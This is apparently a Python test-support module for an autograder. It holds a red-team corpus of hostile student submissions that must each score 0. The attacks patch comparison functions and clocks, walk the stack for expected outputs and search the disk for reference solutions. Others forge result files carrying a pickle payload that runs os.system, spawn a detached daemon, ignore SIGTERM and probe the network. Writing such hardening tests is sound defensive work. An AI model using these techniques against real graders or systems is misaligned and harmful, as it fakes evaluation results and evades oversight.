"""The red-team corpus: hostile submissions, one list for every way in.

Each attack is source text that, appended to the blank stubs, makes a complete submission; it keeps no
honest points, so whatever it tries it must score 0. tests/test_red_team.py grades them with
`python -m autograder grade`, tests/test_nbgrader_course.py with `nbgrader autograde`, where each one
sits in the first solution cell of a student notebook (``student_notebook``) and so also runs in the
kernel, with the instructor's rights. The attacks that act in a call replace every function of the
assignment, ``LearnedPositionalEmbedding`` included: its test cells come right after that first cell,
so the kernel calls them too.

Nothing here may harm the machine it runs on: an attack that got through would leave its trace only in
the test's own folder (``traces``), a process it starts carries that folder's name in its command line
(and ends by itself within five minutes), it allocates address space but never touches it, and it tries
the network only on the loopback and on a documentation address that no one routes (192.0.2.1).
"""

import json
from dataclasses import dataclass
from pathlib import Path

from autograder import rubric


@dataclass(frozen=True)
class Attack:
    name: str
    source: str  # appended to the blank stubs: a complete submission
    sandboxed_only: bool = False  # scores 0 only where bubblewrap keeps it from the machine's files


def _every_function_is(fake):
    return "\n\n" + "\n".join(f"{name} = {fake}" for name in rubric.TASK_OF_FUNCTION) + "\n"


ANSWER_ALL = '''

def _fake(*args, **kwargs):
    return _ANSWER
''' + _every_function_is("_fake")


def corpus(traces):
    """The attacks, by name. ``traces``: an empty folder of the test's, named uniquely (see module doc)."""
    unpickled = traces / "forged_results-unpickled"
    daemon_name = f"{traces.name}-daemon"
    attacks = [
        # Every comparison a grader in this process would use, made to agree.
        Attack("patched_comparisons", '''
import builtins, numpy, numpy.testing, torch
torch.allclose = lambda *args, **kwargs: True
torch.equal = lambda *args, **kwargs: True
torch.testing.assert_close = lambda *args, **kwargs: None
numpy.testing.assert_allclose = lambda *args, **kwargs: None
numpy.allclose = lambda *args, **kwargs: True
torch.Tensor.__eq__ = lambda self, other: torch.ones((), dtype=torch.bool)
_import = builtins.__import__
builtins.__import__ = lambda name, *args, **kwargs: _import(name, *args, **kwargs)
_ANSWER = torch.zeros(1)
''' + ANSWER_ALL),
        # A tensor that claims to equal anything, whatever function is applied to it.
        Attack("torch_function_subclass", '''
import torch


class Agreeable(torch.Tensor):
    @classmethod
    def __torch_function__(cls, func, types, args=(), kwargs=None):
        if func in (torch.allclose, torch.equal, torch.Tensor.__eq__, torch.isclose):
            return True
        return super().__torch_function__(func, types, args, kwargs or {})

    def __eq__(self, other):
        return True


_ANSWER = torch.zeros(3, 3).as_subclass(Agreeable)
''' + ANSWER_ALL),
        # Look up the call stack and through the heap for the expected output; return the biggest tensor there.
        Attack("stack_walk", '''
import gc, sys, torch


def _fake(*args, **kwargs):
    found = []
    frame = sys._getframe(1)
    while frame is not None:
        found += [value for value in frame.f_locals.values() if isinstance(value, torch.Tensor)]
        frame = frame.f_back
    found += [obj for obj in gc.get_objects() if isinstance(obj, torch.Tensor)]
    return max(found, key=lambda tensor: tensor.numel()) if found else torch.zeros(1)
''' + _every_function_is("_fake")),
        # Leave before anything can be called.
        Attack("exit_at_import", "\nimport sys\nsys.exit(0)\n"),
        Attack("os_exit_at_import", "\nimport os\nos._exit(0)\n"),
        Attack("os_exit_in_a_call", '''
import os


def _fake(*args, **kwargs):
    os._exit(0)
''' + _every_function_is("_fake")),
        # Claim full marks on stdout, and leave forged result files where the worker writes its own: each
        # holds a pickle that would leave a trace if anything unpickled it.
        Attack("forged_results", f'''
import json, os, pickle, torch
print(json.dumps({{"score": 100, "max_score": 100, "tests": []}}))


class Payload:
    def __reduce__(self):
        return (os.system, ("touch {unpickled}",))


for task in {rubric.TASK_NAMES!r}:
    for name in (f"result-{{task}}.pt", "results.json"):
        with open(name, "wb") as handle:
            pickle.dump({{"forged": Payload(), "score": 100}}, handle)
_ANSWER = torch.zeros(1)
''' + ANSWER_ALL),
        # Search the disk for the reference (parent folders, sys.path, the usual roots, the package itself)
        # and answer with what it holds.
        Attack("reads_the_reference", '''
import glob, inspect, os, sys


def _the_reference():
    roots = {"/", "/work", "/home", "/srv", "/opt", "/tmp", "/root", os.path.expanduser("~")}
    for start in [os.getcwd(), *sys.path]:
        folder = os.path.abspath(start or ".")
        while folder not in roots:
            roots.add(folder)
            folder = os.path.dirname(folder)
    for root in sorted(roots):
        for pattern in ("solutions/*.py", "*/solutions/*.py"):
            for path in glob.glob(os.path.join(root, pattern)):
                try:
                    with open(path, encoding="utf-8") as handle:
                        text = handle.read()
                except (OSError, UnicodeDecodeError):
                    continue
                if "def shaw_scores" in text and "not implemented yet" not in text:
                    return text
    try:
        import solutions.positional_encodings as found
        return inspect.getsource(found)
    except Exception:
        return None


_found = _the_reference()
if _found is not None:
    _answers = {}
    exec(compile(_found, "the reference", "exec"), _answers)
    for _name in {names!r}:
        globals()[_name] = _answers[_name]
'''.replace("{names!r}", repr(tuple(rubric.TASK_OF_FUNCTION))), sandboxed_only=True),
        Attack("loop_at_import", "\nwhile True:\n    pass\n"),
        Attack("loop_in_a_call", '''

def _fake(*args, **kwargs):
    while True:
        pass
''' + _every_function_is("_fake")),
        # Ignore SIGTERM, and SIGINT too (the kernel's interrupt), then loop forever in a call.
        Attack("ignores_sigterm", '''
import signal
signal.signal(signal.SIGTERM, signal.SIG_IGN)


def _fake(*args, **kwargs):
    signal.signal(signal.SIGTERM, signal.SIG_IGN)
    signal.signal(signal.SIGINT, signal.SIG_IGN)
    while True:
        pass
''' + _every_function_is("_fake")),
        # Far more address space than allowed (64 GiB, never touched, so it costs no real memory).
        Attack("allocates_far_beyond_the_limit", '''
import torch


def _fake(*args, **kwargs):
    return torch.empty(64 * 1024**3, dtype=torch.uint8)
''' + _every_function_is("_fake")),
        # 20 MB on stdout and on stderr in every call: far more than anyone keeps.
        Attack("floods_output", '''
import sys, torch


def _fake(*args, **kwargs):
    for _ in range(20):
        sys.stdout.write("x" * 1_000_000)
        sys.stderr.write("y" * 1_000_000)
    return torch.zeros(1)
''' + _every_function_is("_fake")),
        # A daemon in a session of its own, its parent gone: nothing above it waits for it.
        Attack("detached_daemon", f'''
import os

_child = os.fork()
if _child == 0:
    try:
        os.setsid()
        if os.fork() == 0:
            os.chdir("/")
            os.execv("/bin/sleep", [{daemon_name!r}, "300"])
    finally:
        os._exit(0)
os.waitpid(_child, 0)
'''),
        # Fetch the answers from somewhere.
        Attack("network_connection", '''
import socket

_answers = None
for _address in (("127.0.0.1", 22), ("127.0.0.1", 8888), ("192.0.2.1", 80)):
    try:
        with socket.create_connection(_address, timeout=1) as _connection:
            _answers = _connection.recv(64)
    except OSError:
        pass
'''),
        # Every clock the timing could read stuck at 0, with answers that come back at once.
        Attack("patched_clocks", '''
import time, torch
for _name in ("perf_counter", "perf_counter_ns", "monotonic", "monotonic_ns", "time", "time_ns", "process_time"):
    setattr(time, _name, lambda *args: 0)
torch.cuda.Event.elapsed_time = lambda self, other: 0.0
torch.cuda.synchronize = lambda *args, **kwargs: None
_ANSWER = torch.zeros(1)
''' + ANSWER_ALL),
    ]
    return {attack.name: attack for attack in attacks}


def processes_named(marker):
    """The processes whose command line holds ``marker``."""
    found = []
    for entry in Path("/proc").iterdir():
        if entry.name.isdigit():
            try:
                if marker.encode() in (entry / "cmdline").read_bytes():
                    found.append(int(entry.name))
            except OSError:
                pass
    return found


def student_notebook(released, attack):
    """The released notebook (a dict) with ``attack`` after the stub of its first solution cell.

    The other solution cells keep their stubs, so the notebook has no honest points.
    """
    notebook = json.loads(json.dumps(released))
    first = next(cell for cell in notebook["cells"]
                 if ((cell.get("metadata") or {}).get("nbgrader") or {}).get("solution"))
    stub = "".join(first["source"]) if isinstance(first["source"], list) else first["source"]
    first["source"] = stub.rstrip("\n") + "\n\n" + attack.source.strip("\n") + "\n"
    return notebook
